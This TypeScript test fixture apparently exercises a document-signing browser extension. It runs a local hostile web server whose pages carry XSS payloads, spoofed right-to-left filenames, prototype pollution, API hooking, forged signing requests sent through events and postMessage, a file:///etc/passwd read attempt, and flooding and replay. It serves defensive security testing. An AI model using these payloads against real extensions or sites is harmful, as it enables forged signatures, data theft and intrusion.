/**
 * A granted system whose own page is hostile: it tries, before and after everything else, what a page can try against an extension.
 * Its documents carry hostile names. What it learns it keeps in `window.heard`; the server keeps what was uploaded to it.
 */
import {createServer} from 'node:http';
import type {AddressInfo} from 'node:net';

import {emptyForm, readForm} from '../../demo/agency/form.js';
import {fixtureDocuments} from './fixture-systems/fixture-documents.js';

export interface HostileSystem {
  readonly url: string;
  /** Files that reached it, by field. */
  readonly uploads: {readonly field: string; readonly content: Uint8Array}[];
  /** Decisions that were entered. */
  readonly decisions: string[];
  stop(): Promise<void>;
}

/** @param victim address of another system's file, which this page would like to have */
export async function startHostileSystem(victim: string): Promise<HostileSystem> {
  const uploads: HostileSystem['uploads'] = [];
  const decisions: string[] = [];
  const pdf = fixtureDocuments[0]!.pdf;
  const server = createServer((request, response) => {
    void (async () => {
      const {pathname} = new URL(request.url ?? '/', 'http://x');
      const form = request.method === 'POST' ? await readForm(request) : emptyForm;
      for (const [field, files] of form.files) for (const {content} of files) uploads.push({field, content});
      const html = (body: string, headers: Record<string, string> = {}) => {
        response.writeHead(200, {'Content-Type': 'text/html; charset=utf-8', ...headers});
        response.end(body);
      };
      if (pathname === '/danh-sach') return html(list);
      if (/^\/vb\/\d+$/.test(pathname)) return html(detail(victim));
      if (pathname === '/tep.pdf') return void response.writeHead(200, {'Content-Type': 'application/pdf'}).end(pdf);
      if (pathname === '/di.pdf') return void response.writeHead(302, {Location: victim}).end();
      if (pathname === '/nhan') return void response.writeHead(200, {'Content-Type': 'application/json'}).end('{"Status":true,"FileName":"a.pdf","FileServer":"/a.pdf"}');
      if (pathname === '/quyet-dinh') decisions.push(request.url ?? '');
      if (pathname === '/nghiem') return html('<title>Nghiêm</title><p class="ok">x', {'Content-Security-Policy': "default-src 'none'; sandbox allow-same-origin; require-trusted-types-for 'script'"});
      if (pathname === '/khung.js') return void response.writeHead(200, {'Content-Type': 'text/javascript'}).end(frameScript);
      if (pathname === '/khung') return html(`<p>khung<script>${frameScript}</script>`);
      if (pathname === '/xml') return void response.writeHead(200, {'Content-Type': 'application/xml'}).end('<?xml version="1.0"?><a xmlns="http://www.w3.org/1999/xhtml"><script>document.dispatchEvent(new CustomEvent("trinh-ky:ca-call",{detail:"{}"}))</script></a>');
      return html(tricks);
    })().catch(() => response.destroy());
  });
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    uploads,
    decisions,
    stop: () =>
      new Promise(resolve => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

/** Names: markup, a script's address, direction override, no-width and look-alike letters, a long line. */
const list = `<!doctype html><meta name="hostile" content="1"><table id="ds">
<tr data-id="1"><td class="s">&quot;&gt;&lt;img src=x onerror=&quot;window.pwned=1&quot;&gt;</td><td class="c">Sở N\u200bội vụ \u202egpj.fdp</td></tr>
<tr data-id="2"><td class="s">\${7*7} {{constructor.constructor('return 1')()}}</td><td class="c">Ѕở Nội vụ</td></tr>
<tr data-id="3"><td class="s">${'A'.repeat(200_000)}</td><td class="c"><svg onload="window.pwned=1"></svg>x</td></tr></table>`;

const detail = (victim: string) => `<!doctype html><meta name="hostile" content="1"><div id="vb"></div><ul>
<li><a href="javascript:window.pwned=1">a\u202efdp.exe</a></li><li><a href="${victim}">khac.pdf</a></li><li><a href="/di.pdf">di.pdf</a></li><li><a href="/tep.pdf">bình thường.pdf</a></li></ul>`;

const frameScript = `parent.postMessage({type: 'ca-call', detail: '{}'}, '*');
document.dispatchEvent(new CustomEvent('trinh-ky:ca-call', {detail: JSON.stringify({id: 'f'.repeat(32), call: 'SignApproved', text: '{}'})}));`;

/** Everything is overridden before anything of the extension's could run, and then everything is tried. */
const tricks = `<!doctype html><meta name="hostile" content="1"><title>"&gt;&lt;img src=x onerror=window.pwned=1&gt;</title>
<style>*{all:unset!important;overflow:auto!important} html,body{opacity:.01!important}</style>
<body><div id="x"></div><script>
window.heard = [];
const keep = name => value => window.heard.push([name, String(value).slice(0, 300)]);
const real = {parse: JSON.parse, dispatch: document.dispatchEvent.bind(document), timeout: setTimeout};
JSON.parse = text => { window.heard.push(['JSON.parse', String(text).slice(0, 200)]); return real.parse(text); };
const attach = Element.prototype.attachShadow;
Element.prototype.attachShadow = function (o) { window.heard.push(['attachShadow', this.localName]); return attach.call(this, {...o, mode: 'open'}); };
const from = Uint8Array.from; Uint8Array.from = (...a) => { window.heard.push(['Uint8Array.from', a.length]); return from.apply(Uint8Array, a); };
Array.prototype.map2 = 1; Object.prototype.polluted = 'yes';
const fetched = window.fetch; window.fetch = (...a) => { window.heard.push(['fetch', String(a[0])]); return fetched(...a); };
customElements.define('tk-inbox', class extends HTMLElement {});
document.addEventListener('trinh-ky:ca-answer', event => keep('answer')(event.detail));
addEventListener('message', event => keep('message')(typeof event.data));
const call = detail => real.dispatch(new CustomEvent('trinh-ky:ca-call', {detail}));
const id = n => ('t' + n).padEnd(32, '0');
const ask = (n, text, name = 'SignApproved') => call(JSON.stringify({id: id(n), call: name, text: JSON.stringify(text)}));
window.tryAll = victim => {
  const shapes = ['sign-request', 'deliver', 'open-document', 'read-inbox', 'list-sites', 'add-site', 'import-adapter', 'set-bridge'];
  for (const type of shapes) {
    const message = {type, nonce: 'n'.repeat(32), documentId: '1', origin: location.origin, json: '{}', mode: 'always', address: location.href};
    postMessage(message, '*');
    call(JSON.stringify(message));
    for (const runtime of [globalThis.chrome?.runtime, globalThis.browser?.runtime]) {
      try { runtime?.sendMessage?.(message, keep('runtime')); } catch (error) { keep('runtime-error')(error.message); }
      try { runtime?.connect?.({name: 'trinh-ky-courier:' + 'n'.repeat(32)}); } catch {}
    }
  }
  const child = document.body.appendChild(document.createElement('iframe'));
  child.srcdoc = '<script src="/khung.js"><\\/script>';
  document.body.appendChild(document.createElement('iframe')).src = '/khung';
  for (const src of ['about:blank', 'data:text/html,<script>parent.postMessage({type:"deliver"},"*")<\\/script>', '/xml', '/nghiem']) {
    const frame = document.body.appendChild(document.createElement('iframe'));
    if (src.startsWith('/')) frame.sandbox = 'allow-scripts';
    frame.src = src;
  }
  // Shapes that are none.
  for (const text of ['{"id":"' + id(1) + '","call":"SignApproved","text":"{}","__proto__":{"x":1}}', '{"id":"' + id(2) + '","call":"SignApproved","text":"{}","constructor":{"prototype":{"x":1}}}',
    'x'.repeat(10000000), '{"id":"' + id(3) + '","call":"SignEverything","text":"{}","version":99}', '[]', 'null', '"a"', '{"id":5}']) call(text);
  const cyclic = {}; cyclic.self = cyclic;
  for (const detail of [cyclic, 5n, {toJSON() { window.heard.push(['toJSON']); return {}; }, get id() { window.heard.push(['getter']); return 1; }}, new Proxy({}, {})]) call(detail);
  // Files that are not this system's: by address, by redirect, by scheme; handlers elsewhere.
  ask(10, {FileName: victim, FileUploadHandler: '/nhan'});
  ask(11, {FileName: '/di.pdf', FileUploadHandler: '/nhan'});
  ask(12, {FileName: 'file:///etc/passwd', FileUploadHandler: '/nhan'});
  ask(13, {FileName: 'javascript:1', FileUploadHandler: '/nhan'});
  ask(14, {FileName: {toString: 1}, FileUploadHandler: ['/nhan']});
  ask(15, {__proto__: null, FileName: '', FileUploadHandler: ''});
  ask(16, [], 'SignFiles');
  ask(17, {Files: Array.from({length: 10000}, () => ({URL: '/tep.pdf'}))}, 'SignFiles');
  // Clicks nobody made, on everything there is.
  for (const element of document.querySelectorAll('*')) { element.click(); element.dispatchEvent(new MouseEvent('click', {bubbles: true})); }
  for (let n = 0; n < 1000; n++) history.pushState({}, '', '?n=' + n);
  const box = document.getElementById('x');
  for (let n = 0; n < 20000; n++) box.appendChild(document.createElement('i'));
  box.remove();
  for (const each of document.querySelectorAll('tk-signpost, [id*=trinh]')) each.remove();
};
window.flood = (count) => { for (let n = 0; n < count; n++) ask(100 + n, {FileName: '/tep.pdf', FileUploadHandler: '/nhan'}); };
window.replay = () => { for (let n = 0; n < 5; n++) ask(50, {FileName: '/tep.pdf', FileUploadHandler: '/nhan'}); };
</script>`;
